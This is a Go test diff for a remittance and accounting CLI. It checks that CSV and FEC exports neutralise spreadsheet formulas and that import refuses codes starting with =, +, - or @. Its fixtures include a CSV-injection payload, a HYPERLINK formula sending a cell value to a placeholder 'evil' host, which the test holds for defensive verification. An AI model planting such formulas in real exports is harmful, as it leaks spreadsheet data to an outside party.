@@ -5,6 +5,7 @@ package main
 // file modes.
 
 import (
+	"encoding/csv"
 	"encoding/json"
 	"fmt"
 	"os"
@@ -527,5 +528,81 @@ func TestRefusalsMaskIBANs(t *testing.T) {
 			t.Error("no refusal stored")
 		}
 		check("the refusal column", stored)
+	}
+}
+
+// Item 4: what a spreadsheet would run as a formula (=, +, -, @, tab, CR
+// first) is neutralised with a leading apostrophe in every CSV export
+// (remit list, remit entries --format csv, the FEC in both encodings), and
+// refused at the start of a code on import.
+func TestCSVExportsNeutraliseFormulas(t *testing.T) {
+	w := newWorkspace(t)
+	w.initDB()
+	hostile := []string{`=HYPERLINK("http://evil/?"&A1,"x")`, `@SUM(A1:A2)`, `+33 1 23 45 67 89`, `-2+3`, "=411EQ"}
+	var b strings.Builder
+	b.WriteString(csvHeader)
+	cw := csv.NewWriter(&b)
+	for i, s := range hostile {
+		for j, method := range []string{"sdd", "lcr"} {
+			mandate, signed := "", ""
+			if method == "sdd" {
+				mandate, signed = fmt.Sprintf("RUM-F-%d", i), "2025-01-15"
+			}
+			cw.Write([]string{fmt.Sprintf("F%d%s", i, method), fmt.Sprintf("411F%d%s", i, method), s, "12.34", "2026-12-15", method,
+				frenchIBAN(t, 30004, 100+i, int64(1000+j)), "BNPAFRPP", mandate, signed, "", "", "accepted", s, "1", "75002", "Paris",
+				"FR", s, "", s, "yes"})
+		}
+	}
+	cw.Flush()
+	w.must("import", w.writeFile("hostile.csv", []byte(b.String())))
+	w.must("run")
+
+	checkCells := func(what string, cells []string) {
+		t.Helper()
+		for _, c := range cells {
+			if c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) {
+				t.Errorf("%s: cell %q would run as a formula", what, c)
+			}
+		}
+	}
+	readCSV := func(what, data string) [][]string {
+		t.Helper()
+		recs, err := csv.NewReader(strings.NewReader(data)).ReadAll()
+		if err != nil {
+			t.Fatalf("%s: %v", what, err)
+		}
+		for _, rec := range recs {
+			checkCells(what, rec)
+		}
+		return recs
+	}
+	list := w.must(append([]string{"list", "--status", "all", "--format", "csv"}, everything...)...)
+	if recs := readCSV("list", list.stdout); len(recs) != 1+2*len(hostile) {
+		t.Errorf("list: %d records", len(recs))
+	}
+	if !strings.Contains(list.stdout, `"'=HYPERLINK(""http://evil/?""&A1,""x"")"`) {
+		t.Errorf("list: the hostile name is not shown neutralised:\n%s", list.stdout)
+	}
+	entries := w.must("entries", "1", "2", "--format", "csv")
+	readCSV("entries --format csv", entries.stdout)
+	if !strings.Contains(entries.stdout, "'@SUM(A1:A2)") {
+		t.Errorf("entries csv: the hostile label is not shown neutralised:\n%s", clip(entries.stdout))
+	}
+	for _, enc := range []string{"utf-8", "iso-8859-15"} {
+		fec := w.must("entries", "1", "2", "--format", "fec", "--encoding", enc)
+		for _, line := range strings.Split(strings.TrimSuffix(fec.stdout, "\r\n"), "\r\n") {
+			checkCells("FEC "+enc, strings.Split(line, "\t"))
+		}
+		if !strings.Contains(fec.stdout, "\t'+33 1 23 45 67 89\t") {
+			t.Errorf("FEC %s: the hostile name is not shown neutralised", enc)
+		}
+	}
+
+	// Codes that would be formulas are refused on import, each named.
+	bad := csvHeader + "=F1,411A,A,1.00,2026-12-15,,,,,,,,,,,,,,,,,\nF2,@411B,B,1.00,2026-12-15,,,,,,,,,,,,,,,,,\n"
+	r := w.run("import", w.writeFile("codes.csv", []byte(bad)))
+	if r.code != 1 || !strings.Contains(r.stderr, `line 2, column document "=F1": starts with =, +, - or @`) ||
+		!strings.Contains(r.stderr, `line 3, column customer "@411B": starts with =, +, - or @`) {
+		t.Errorf("codes starting with = or @: want both lines refused\n%s", r)
 	}
 }
